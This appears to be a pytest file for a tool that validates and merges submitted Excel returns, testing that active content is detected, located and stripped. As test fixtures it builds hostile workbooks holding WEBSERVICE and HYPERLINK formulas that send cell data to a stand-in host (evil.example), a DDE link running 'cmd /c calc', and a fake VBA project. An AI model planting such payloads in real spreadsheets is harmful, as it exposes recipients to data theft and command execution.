"""Issue 10, points 3, 4, 5 and the special files of 7: nothing active from a return
reaches what pegxl writes, one bad return never blocks the others, honest clients'
quirks are not errors, special files are refused without being opened.

Every hostile or faulty file is built here, from a return filled through the public API
(tests/around_helpers.py), then edited with openpyxl or at the zip level.
"""
from __future__ import annotations

import json
import os
import re
import shutil
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.workbook.defined_name import DefinedName

from around_helpers import SECTORS, fill, inputs, make_plan, make_templates
from lo_helper import lo_convert, lo_fill, requires_lo

from pegxl.annotate import annotate_files
from pegxl.cli import main
from pegxl.errors import ERROR, WARNING, ErrorCode, PegxlError, finding
from pegxl.merge import merge
from pegxl.templates import build_template, fill_return
from pegxl.validators.returns import validate_returns
from pegxl.workbook.reader import xlsx_extents

ACTIVE_CODES = {"T009", "T010", "T011", "T012", "T013", "T014", "T015", "T016", "T017"}


@pytest.fixture(scope="module")
def base(tmp_path_factory):
    root = tmp_path_factory.mktemp("active")
    _, plan = make_plan(root)
    templates = make_templates(plan, root / "modelli")
    returns = fill(plan, templates, root / "buoni")
    return plan, templates, returns, root


def _copy_good(base, dest: Path, sectors=SECTORS) -> dict[str, Path]:
    plan, templates, returns, _ = base
    dest.mkdir(parents=True, exist_ok=True)
    return {s: Path(shutil.copy(returns[s], dest / returns[s].name)) for s in sectors}


def _codes(v, path) -> list[str]:
    return [f.code for f in v.findings if f.file == str(path)]


def _edit_zip(path: Path, edit) -> None:
    """Rewrite the zip at `path`, `edit(name, data) -> data | None` (None drops the part);
    `edit("", None)` may return extra {name: data} parts."""
    src = path.read_bytes()
    tmp = path.with_suffix(".tmp")
    with zipfile.ZipFile(__import__("io").BytesIO(src)) as zin, zipfile.ZipFile(tmp, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = edit(info.filename, zin.read(info.filename))
            if data is not None:
                zout.writestr(info.filename, data)
        for name, data in (edit("", None) or {}).items():
            zout.writestr(name, data)
    os.replace(tmp, path)


def _sheet_part(path: Path, sheet: str) -> str:
    with zipfile.ZipFile(path) as zf:
        wb = zf.read("xl/workbook.xml").decode()
        rels = zf.read("xl/_rels/workbook.xml.rels").decode()
    rid = re.search(rf'<sheet [^>]*name="{sheet}"[^>]*r:id="([^"]+)"', wb).group(1)
    target = re.search(rf'<Relationship [^>]*Id="{rid}"[^>]*Target="([^"]+)"', rels) or \
        re.search(rf'<Relationship [^>]*Target="([^"]+)"[^>]*Id="{rid}"', rels)
    t = target.group(1).lstrip("/")
    return t if t.startswith("xl/") else "xl/" + t


def _formulas(path: Path) -> dict[tuple[str, str], str]:
    wb = openpyxl.load_workbook(path)
    return {(ws.title, c.coordinate): c.value for ws in wb.worksheets for row in ws.iter_rows()
            for c in row if isinstance(c.value, str) and c.value.startswith("=") and c.data_type == "f"}


# ------------------------------------------------------------ 1-2: active content

def _hostile(path: Path) -> None:
    """Everything issue 10 point 3 lists, in one return."""
    wb = openpyxl.load_workbook(path)
    ob, riep = wb["Obiettivi"], wb["Riepilogo"]
    ob["B2"] = '=WEBSERVICE("http://evil.example/?"&Obiettivi!L2)'       # a locked title
    ob.cell(row=ob.max_row + 3, column=1, value="=1+1")                   # below the table
    total_row = next(r for r in range(2, riep.max_row + 1) if riep.cell(row=r, column=1).value == "Totale settore")
    riep.cell(row=total_row, column=10, value="=100")                      # the total forced
    riep["H2"] = '=HYPERLINK("http://evil.example","clic")'                # in a computed cell
    wb.defined_names["FURTO"] = DefinedName("FURTO", attr_text='WEBSERVICE("http://evil.example")')
    wb.save(path)

    def add_dde(name, data):
        if name == "":
            return {"xl/externalLinks/externalLink1.xml":
                    b'<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    b'<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'}
        return data
    _edit_zip(path, add_dde)


def test_hostile_formulas_names_and_dde_are_located_errors(base, tmp_path):
    good = _copy_good(base, tmp_path / "r", ("S01",))
    _hostile(good["S01"])
    v = validate_returns(base[0], [tmp_path / "r"])
    by = {(f.code, f.sheet, f.cell): f for f in v.findings}
    assert ("T009", "Obiettivi", "B2") in by and "WEBSERVICE" in by[("T009", "Obiettivi", "B2")].message
    assert any(k[0] == "T009" and k[1] == "Obiettivi" and k[2] != "B2" for k in by)
    t010 = {k[2]: f for k, f in by.items() if k[0] == "T010"}
    assert "H2" in t010 and "HYPERLINK" in t010["H2"].message
    assert any("valore fisso" in f.message for f in t010.values())      # =100
    assert any(f.code == "T011" and "FURTO" in f.message and f.severity == ERROR for f in v.findings)
    assert any(f.code == "T013" and "DDE" in f.message for f in v.findings)
    assert not v.usable(str(good["S01"]))


def test_merge_partial_leaves_out_the_hostile_file_and_copies_carry_nothing_of_it(base, tmp_path):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r")
    _hostile(good["S01"])
    # S02: usable, with warnings only -- a hyperlink, an added name, a VBA project, a
    # Relazione that looks like a formula
    wb = openpyxl.load_workbook(good["S02"])
    wb["Obiettivi"]["A2"].hyperlink = "http://evil.example/"
    wb.defined_names["MIO"] = DefinedName("MIO", attr_text="Obiettivi!$A$2")
    rel_col = next(c.column for c in wb["Obiettivi"][1] if c.value == "Relazione")
    cell = wb["Obiettivi"].cell(row=2, column=rel_col, value='=HYPERLINK("http://evil.example","x")')
    cell.data_type = "s"
    wb.save(good["S02"])
    _edit_zip(good["S02"], lambda n, d: {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0fake"} if n == "" else d)
    v = validate_returns(plan, [tmp_path / "r"])
    s02 = [f for f in v.findings if f.file == str(good["S02"])]
    assert {"T012", "T014", "T016"} <= {f.code for f in s02} and not any(f.is_error for f in s02)

    with pytest.raises(PegxlError):
        merge(plan, [tmp_path / "r"], tmp_path / "out")
    result = merge(plan, [tmp_path / "r"], tmp_path / "out", partial=True)
    assert result.sectors == ["S02", "S03"] and "S01" in result.excluded
    assert result.reconciliation.ok
    for s in ("S02", "S03"):
        copy = result.returned[s]
        with zipfile.ZipFile(copy) as zf:
            names = zf.namelist()
            wbxml = zf.read("xl/workbook.xml").decode()
        assert not any(n.startswith(("xl/externalLinks", "xl/vbaProject", "xl/connections")) for n in names)
        assert "MIO" not in wbxml and "FURTO" not in wbxml
        # every live formula of the copy is one the template writes (none from the return)
        template = tmp_path / f"t_{s}.xlsx"
        build_template(plan, s).save(template)
        assert set(_formulas(copy).values()) <= set(_formulas(template).values())
        back = openpyxl.load_workbook(copy)
        assert all(c.hyperlink is None for ws in back.worksheets for row in ws.iter_rows() for c in row)
    cons = openpyxl.load_workbook(result.consolidated)
    assert not [c.coordinate for ws in cons.worksheets for row in ws.iter_rows() for c in row
                if c.data_type == "f" and "evil" in str(c.value)]
    assert any(c.value == '=HYPERLINK("http://evil.example","x")' and c.data_type == "s"
               for row in cons["Obiettivi"].iter_rows() for c in row)
    back = openpyxl.load_workbook(result.returned["S02"])
    rel = back["Obiettivi"].cell(row=2, column=rel_col)
    assert rel.value == '=HYPERLINK("http://evil.example","x")' and rel.data_type == "s"


def test_write_back_never_opens_the_return(base, tmp_path, monkeypatch):
    _copy_good(base, tmp_path / "r")
    real = openpyxl.load_workbook

    def guarded(path, *a, **kw):
        assert Path(path).parent != tmp_path / "r", f"merge opened the return {path} with openpyxl"
        return real(path, *a, **kw)
    monkeypatch.setattr(openpyxl, "load_workbook", guarded)
    monkeypatch.setattr(openpyxl.reader.excel, "load_workbook", guarded)
    result = merge(base[0], [tmp_path / "r"], tmp_path / "out")
    assert set(result.returned) == set(SECTORS)


def test_template_formulas_pass_the_rules(base, tmp_path):
    """The template's own formulas, untouched: no finding of active content (catches a
    template change the rules do not know)."""
    plan, templates, _, _ = base
    for s in SECTORS:
        target = tmp_path / templates[s].name
        fill_return(templates[s], target, inputs(plan.anno, s))
    v = validate_returns(plan, [tmp_path])
    assert not [str(f) for f in v.findings if f.code in ACTIVE_CODES]


def test_annotated_copy_defuses_what_the_return_carries(base, tmp_path):
    good = _copy_good(base, tmp_path / "r", ("S01",))
    _hostile(good["S01"])
    wb = openpyxl.load_workbook(good["S01"])
    wb["Fasi"]["A2"].hyperlink = "http://evil.example/"
    wb.save(good["S01"])
    v = validate_returns(base[0], [tmp_path / "r"])
    [copy] = annotate_files(v.findings, tmp_path / "annotati")
    back = openpyxl.load_workbook(copy)
    assert back["Obiettivi"]["B2"].data_type == "s" and "WEBSERVICE" in back["Obiettivi"]["B2"].value
    assert back["Riepilogo"]["H2"].data_type == "s"
    assert "FURTO" not in back.defined_names
    assert back["Fasi"]["A2"].hyperlink is None
    with zipfile.ZipFile(copy) as zf:
        assert not any(n.startswith("xl/externalLinks") for n in zf.namelist())
    # the template's own formulas stay live
    assert any(c.data_type == "f" for row in back["Riepilogo"].iter_rows() for c in row)


# ---------------------------------------------------------- 3: limits of writing

def _set_input(path: Path, sheet: str, header: str, value, row: int = 2) -> None:
    wb = openpyxl.load_workbook(path)
    ws = wb[sheet]
    col = next(c.column for c in ws[1] if c.value == header)
    cell = ws.cell(row=row, column=col)
    cell.value = value
    if isinstance(value, str):
        cell.data_type = "s"
    wb.save(path)


def _inline_text(path: Path, sheet: str, cell: str, text: str) -> None:
    """Put `text` in `cell` as an inline string at the XML level (openpyxl would refuse
    control characters; Excel's own limit does not bind a hand-made file)."""
    part = _sheet_part(path, sheet)
    from xml.sax.saxutils import escape
    body = "".join(f"_x{ord(ch):04X}_" if ord(ch) < 32 and ch not in "\t\n\r" else ch for ch in text)

    def edit(name, data):
        if name != part:
            return data
        xml = data.decode()
        new = f'<c r="{cell}" t="inlineStr"><is><t>{escape(body)}</t></is></c>'
        xml, n = re.subn(rf'<c r="{cell}"[^>]*?(?:/>|>.*?</c>)', new, xml, count=1, flags=re.S)
        assert n == 1
        return xml.encode()
    _edit_zip(path, edit)


def test_a_40000_character_relazione_is_refused_at_its_cell_and_the_others_merge(base, tmp_path):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r")
    wb = openpyxl.load_workbook(good["S01"])
    col = next(c.column for c in wb["Obiettivi"][1] if c.value == "Relazione")
    cell = f"{openpyxl.utils.get_column_letter(col)}2"
    _inline_text(good["S01"], "Obiettivi", cell, "relazione." * 4000)   # 40,000 characters
    v = validate_returns(plan, [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "V030"]
    assert (f.file, f.sheet, f.cell, f.severity) == (str(good["S01"]), "Obiettivi", cell, ERROR)
    assert "40.000" in f.message and len(f.message) < 400
    result = merge(plan, [tmp_path / "r"], tmp_path / "out", partial=True)
    assert result.sectors == ["S02", "S03"] and result.reconciliation.ok


def test_control_characters_are_a_warning_and_the_text_reaches_the_outputs(base, tmp_path):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r")
    wb = openpyxl.load_workbook(good["S01"])
    col = next(c.column for c in wb["Obiettivi"][1] if c.value == "Relazione")
    cell = f"{openpyxl.utils.get_column_letter(col)}2"
    _inline_text(good["S01"], "Obiettivi", cell, "Fatto\x01 tutto\x0b bene")
    v = validate_returns(plan, [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "V031"]
    assert (f.cell, f.severity) == (cell, WARNING) and "U+0001" in f.message and "\x01" not in f.message
    result = merge(plan, [tmp_path / "r"], tmp_path / "out")
    assert result.reconciliation.ok and "S01" in result.sectors
    back = openpyxl.load_workbook(result.returned["S01"])
    assert back["Obiettivi"][cell].value == "Fatto tutto bene"


def test_a_number_beyond_excel_is_refused_at_its_cell(base, tmp_path):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r", ("S01",))
    _set_input(good["S01"], "Indicatori", "Valore raggiunto", 1.5e308)
    v = validate_returns(plan, [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "V032"]
    assert f.sheet == "Indicatori" and f.cell and f.severity == ERROR


@pytest.mark.parametrize("damage", ["no_override", "missing"])
def test_a_wrong_content_types_never_crashes_merge(base, tmp_path, damage):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r")

    def edit(name, data):
        if name == "[Content_Types].xml":
            if damage == "missing":
                return None
            return re.sub(rb'<Override [^>]*worksheets/sheet2\.xml"[^>]*/>', b"", data)
        return data
    _edit_zip(good["S01"], edit)
    v = validate_returns(plan, [tmp_path / "r"])
    assert v.usable(str(good["S01"]))
    # read fine everywhere: values by calamine, the copy rebuilt from the plan (merge used
    # to open the return with openpyxl, KeyError, after the consolidated was written)
    result = merge(plan, [tmp_path / "r"], tmp_path / "out")
    assert result.reconciliation.ok and result.sectors == list(SECTORS)
    [copy] = annotate_files([finding(ErrorCode.T012, file=str(good["S01"]), value="x")], tmp_path / "annotati")
    assert openpyxl.load_workbook(copy).sheetnames[0] == "Errori"


# ------------------------------------------------------------ 4: honest quirks

def test_an_empty_last_row_and_styled_empty_cells_are_not_a_million_rows(base, tmp_path):
    plan = base[0]
    good = _copy_good(base, tmp_path / "r", ("S01",))
    part = _sheet_part(good["S01"], "Fasi")
    _edit_zip(good["S01"], lambda n, d: d.replace(
        b"</sheetData>", b'<row r="1048576" spans="1:10"><c r="XFD1048576" s="1"/></row></sheetData>')
        if n == part else d)
    assert xlsx_extents(good["S01"])["Fasi"][0] < 10
    v = validate_returns(plan, [tmp_path / "r"])
    assert not [f for f in v.findings if f.code in ("F006", "F007")]
    assert v.usable(str(good["S01"]))


def test_a_value_in_the_last_row_is_still_counted(base, tmp_path):
    good = _copy_good(base, tmp_path / "r", ("S01",))
    part = _sheet_part(good["S01"], "Fasi")
    _edit_zip(good["S01"], lambda n, d: d.replace(
        b"</sheetData>", b'<row r="1048576"><c r="A1048576"><v>1</v></c></row></sheetData>') if n == part else d)
    v = validate_returns(base[0], [tmp_path / "r"])
    assert any(f.code in ("F006", "F007") for f in v.findings)


def test_merged_cells_over_an_input_say_what_is_read_and_what_is_shown(base, tmp_path):
    """S01's phases: 100 in G2, 80 in G3. Merging G2:G3 shows 100 over both cells while
    the file still holds 80 in G3, which pegxl would read."""
    good = _copy_good(base, tmp_path / "r", ("S01",))
    part = _sheet_part(good["S01"], "Fasi")

    def edit(name, data):
        if name != part:
            return data
        xml = data.decode()
        merge_xml = '<mergeCells count="1"><mergeCell ref="G2:G3"/></mergeCells>'
        if "<mergeCells" in xml:
            return xml.replace("</mergeCells>", '<mergeCell ref="G2:G3"/></mergeCells>').encode()
        anchor = "<phoneticPr" if "<phoneticPr" in xml else ("<conditionalFormatting" if "<conditionalFormatting" in xml
                                                            else "<dataValidations")
        i = xml.index("</sheetData>") + len("</sheetData>")
        j = xml.find(anchor, i)
        # after sheetProtection if present (CT_Worksheet order), else right after sheetData
        k = xml.find("/>", xml.find("<sheetProtection", i)) + 2 if "<sheetProtection" in xml[i:] else i
        at = max(k, i) if j == -1 or k <= j else i
        return (xml[:at] + merge_xml + xml[at:]).encode()
    _edit_zip(good["S01"], edit)
    v = validate_returns(base[0], [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "T017"]
    assert (f.sheet, f.cell, f.severity) == ("Fasi", "G3", ERROR)
    assert "«80»" in f.message and "«100»" in f.message and "G2:G3" in f.message


# ---------------------------------------------------------- 5: special files

@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
def test_special_files_are_refused_without_opening_them_and_the_others_are_checked(base, tmp_path):
    good = _copy_good(base, tmp_path / "r", ("S02",))
    os.mkfifo(tmp_path / "r" / "bloccante.xlsx")
    (tmp_path / "r" / "decompresso.xlsx").mkdir()
    named_dir = tmp_path / "altro.xlsx"
    named_dir.mkdir()
    (named_dir / "dentro.xlsx").write_bytes(good["S02"].read_bytes())
    # a subprocess with a timeout: a regression would block on the FIFO forever
    out = subprocess.run([sys.executable, "-m", "pegxl", "validate", "--plan", str(base[0].path),
                          "--format", "json", str(tmp_path / "r"), str(named_dir)],
                         capture_output=True, text=True, timeout=120)
    doc = json.loads(out.stdout)
    found = doc["findings"] if isinstance(doc, dict) else doc
    f011 = sorted(Path(f["file"]).name for f in found if f["code"] == "F011")
    assert f011 == ["altro.xlsx", "bloccante.xlsx", "decompresso.xlsx"]
    assert not [f for f in found if f["file"] == str(good["S02"]) and f["severity"] == ERROR]
    assert out.returncode == 1 and "Traceback" not in out.stderr


def test_cli_merge_partial_with_a_hostile_file(base, tmp_path):
    good = _copy_good(base, tmp_path / "r")
    _hostile(good["S03"])
    r = CliRunner().invoke(main, ["merge", "--plan", str(base[0].path), str(tmp_path / "r"),
                                  "-o", str(tmp_path / "out"), "--partial", "--format", "json"])
    assert r.exit_code == 0, r.output
    doc = json.loads(r.output)
    text = json.dumps(doc)
    assert "S03" in text and "T009" in text
    copies = sorted(p.name for p in (tmp_path / "out" / "restituiti").iterdir())
    assert copies == sorted(good[s].name for s in ("S01", "S02"))


# -------------------------------------------------------- honest LibreOffice round trip

@requires_lo
@pytest.mark.parametrize("ext", [".xlsx", ".ods"])
def test_a_return_saved_by_libreoffice_has_no_active_content_finding(base, tmp_path, ext):
    plan, _, returns, _ = base
    (tmp_path / "r").mkdir()
    for s in SECTORS:
        lo_convert(returns[s], tmp_path / "r" / (returns[s].stem + ext))
    v = validate_returns(plan, [tmp_path / "r"])
    assert len(v.files) == 3
    assert not [str(f) for f in v.findings if f.code in ACTIVE_CODES or f.code.startswith("F")]
    assert not [str(f) for f in v.findings if f.is_error]


@requires_lo
def test_hostile_content_is_found_in_an_ods_too(base, tmp_path):
    """The same tampering saved by LibreOffice as .ods: formulas outside the computed
    cells, the forged total, the hidden value under a merge."""
    good = _copy_good(base, tmp_path / "x", ("S01",))
    wb = openpyxl.load_workbook(good["S01"])
    wb["Obiettivi"]["B2"] = '=WEBSERVICE("http://evil.example")'
    riep = wb["Riepilogo"]
    total_row = next(r for r in range(2, riep.max_row + 1) if riep.cell(row=r, column=1).value == "Totale settore")
    riep.cell(row=total_row, column=10, value="=100")
    wb.save(good["S01"])
    (tmp_path / "r").mkdir()
    ods = tmp_path / "r" / (good["S01"].stem + ".ods")
    lo_convert(good["S01"], ods)
    v = validate_returns(base[0], [tmp_path / "r"])
    by = {(f.code, f.sheet, f.cell) for f in v.findings}
    assert ("T009", "Obiettivi", "B2") in by
    assert ("T010", "Riepilogo", f"J{total_row}") in by


@requires_lo
def test_merged_cells_over_an_input_in_an_ods(base, tmp_path):
    good = _copy_good(base, tmp_path / "x", ("S01",))
    part = _sheet_part(good["S01"], "Fasi")
    _edit_zip(good["S01"], lambda n, d: d.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="G2:G3"/></mergeCells>') if n == part else d)
    (tmp_path / "r").mkdir()
    lo_convert(good["S01"], tmp_path / "r" / (good["S01"].stem + ".ods"))
    v = validate_returns(base[0], [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "T017"]
    assert f.cell == "G3" and "«80»" in f.message and "«100»" in f.message


def test_a_conditional_format_calling_outside_is_a_located_error_and_dropped_from_the_annotated_copy(base, tmp_path):
    from openpyxl.formatting.rule import FormulaRule
    good = _copy_good(base, tmp_path / "r", ("S01",))
    wb = openpyxl.load_workbook(good["S01"])
    wb["Fasi"].conditional_formatting.add("C2", FormulaRule(formula=['LEN(WEBSERVICE("http://evil.example"))>0']))
    wb.save(good["S01"])
    v = validate_returns(base[0], [tmp_path / "r"])
    [f] = [f for f in v.findings if f.code == "T018"]
    assert (f.sheet, f.cell, f.severity) == ("Fasi", "C2", ERROR) and "WEBSERVICE" in f.message
    [copy] = annotate_files(v.findings, tmp_path / "annotati")
    back = openpyxl.load_workbook(copy)
    texts = [str(x) for cf in back["Fasi"].conditional_formatting for r in cf.rules for x in (r.formula or [])]
    assert texts and not [t for t in texts if "WEBSERVICE" in t]    # the template's own rules stay


def test_the_copy_keeps_the_office_password(base, tmp_path):
    """Templates generated with --password: the rebuilt copy is protected with the same
    password, not the default one."""
    from pegxl.templates import generate_templates
    plan = base[0]
    generate_templates(plan, tmp_path / "modelli", password="segreta")
    templates = {s: next((tmp_path / "modelli").glob(f"*_{s}_*.xlsx")) for s in SECTORS}
    fill(plan, templates, tmp_path / "r")
    result = merge(plan, [tmp_path / "r"], tmp_path / "out")
    from openpyxl.utils.protection import hash_password
    back = openpyxl.load_workbook(result.returned["S01"])
    assert back["Obiettivi"].protection.password == hash_password("segreta")
    assert back["Obiettivi"].protection.sheet


@requires_lo
def test_formulas_typed_in_libreoffice_outside_the_inputs_are_tampering(base, tmp_path):
    """What a settore does in Calc (UNO setFormula ignores protection, as removing it
    would): a formula in a locked title, one below the table, the total forced."""
    plan, _, returns, _ = base
    wb = openpyxl.load_workbook(returns["S01"])
    riep = wb["Riepilogo"]
    total_row = next(r for r in range(2, riep.max_row + 1) if riep.cell(row=r, column=1).value == "Totale settore")
    (tmp_path / "r").mkdir()
    out = tmp_path / "r" / returns["S01"].name
    lo_fill(returns["S01"], out, [
        {"sheet": "Obiettivi", "cell": "B2", "formula": '=HYPERLINK("http://evil.example";"Titolo")'},
        {"sheet": "Fasi", "cell": "A20", "formula": "=1+1"},
        {"sheet": "Riepilogo", "cell": f"J{total_row}", "formula": "=100"},
    ])
    v = validate_returns(plan, [tmp_path / "r"])
    by = {(f.code, f.sheet, f.cell) for f in v.findings}
    assert {("T009", "Obiettivi", "B2"), ("T009", "Fasi", "A20"), ("T010", "Riepilogo", f"J{total_row}")} <= by


def test_readings_sheet_formulas_are_checked_after_clean_files_of_the_same_plan(base, tmp_path):
    """The template's formulas pass by sets remembered from the files read before (one
    difference of sets a file): a forged formula among them, or one a row below the
    readings, is still found in a file read after clean ones of the same plan."""
    from pegxl.templates.formulas import SHEET_READINGS
    plan = base[0]
    good = _copy_good(base, tmp_path / "r")
    first = validate_returns(plan, [tmp_path / "r"], jobs=1)
    assert not [f for f in first.findings if f.code in ACTIVE_CODES]
    hostile = tmp_path / "h" / good["S01"].name
    hostile.parent.mkdir()
    shutil.copy(good["S01"], hostile)
    wb = openpyxl.load_workbook(hostile)
    ws = wb[SHEET_READINGS]
    forged = next(c for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "f")
    forged.value = '=WEBSERVICE("http://evil.example/?"&Obiettivi!L2)'
    last = max(c.row for row in ws.iter_rows(min_row=2) for c in row if c.data_type == "f")
    ws.cell(row=last + 1, column=forged.column, value="=Obiettivi!L2")
    wb.save(hostile)
    v = validate_returns(plan, [hostile.parent], jobs=1)
    by = {(f.code, f.cell) for f in v.findings if f.sheet == SHEET_READINGS}
    assert ("T010", forged.coordinate) in by
    assert ("T009", f"{forged.column_letter}{last + 1}") in by
